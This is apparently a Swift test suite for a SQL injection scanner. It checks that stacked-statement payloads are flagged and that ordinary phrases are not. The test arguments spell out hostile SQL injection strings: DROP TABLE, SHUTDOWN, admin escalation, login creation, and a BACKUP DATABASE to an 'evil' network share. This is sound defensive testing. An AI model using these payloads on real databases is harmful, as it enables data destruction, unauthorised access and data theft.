import Testing

@testable import Policy

@Suite("SQL injection detector: statements stacked without a semicolon")
struct SQLScannerTests {
    @Test(
        "a statement behind a closed literal or a number is stacked (SQL Server runs it without ';')",
        arguments: [
            "x' DELETE FROM users -- ", "x' DROP TABLE users --", "x' SHUTDOWN --", "x' SHUTDOWN WITH NOWAIT",
            "x' INSERT INTO admins VALUES(1)--",
            "x' UPDATE users SET admin=1 --", "x' UPDATE dbo.users SET admin=1 --", "x' TRUNCATE TABLE logs--",
            "x' EXEC sp_addlogin 'a','b'--",
            "x'/**/DROP/**/TABLE/**/users--", "x\" DROP TABLE users --", "1 DELETE FROM users", "1 DROP TABLE users--",
            "x' DECLARE @q nvarchar(99)--", "x' BACKUP DATABASE master TO DISK='\\\\evil\\x'--", "x' CREATE LOGIN evil WITH PASSWORD='p'--",
        ])
    func stacked(value: String) {
        let finding = SQLScanner.finding(in: value)
        #expect(finding?.contains("stacked statements") == true, "\(value): \(finding ?? "nothing")")
    }

    @Test(
        "words that are keywords in ordinary text do not make a statement",
        arguments: [
            "I said 'select all' then", "don't drop it", "it's time to update the list", "please delete from the list", "O'Brien",
            "rock 'n' roll", "we'll create a table tomorrow", "42 items", "x' shutdown soon", "1 update",
        ])
    func benign(value: String) {
        #expect(SQLScanner.finding(in: value) == nil, "\(value): \(SQLScanner.finding(in: value) ?? "")")
    }
}
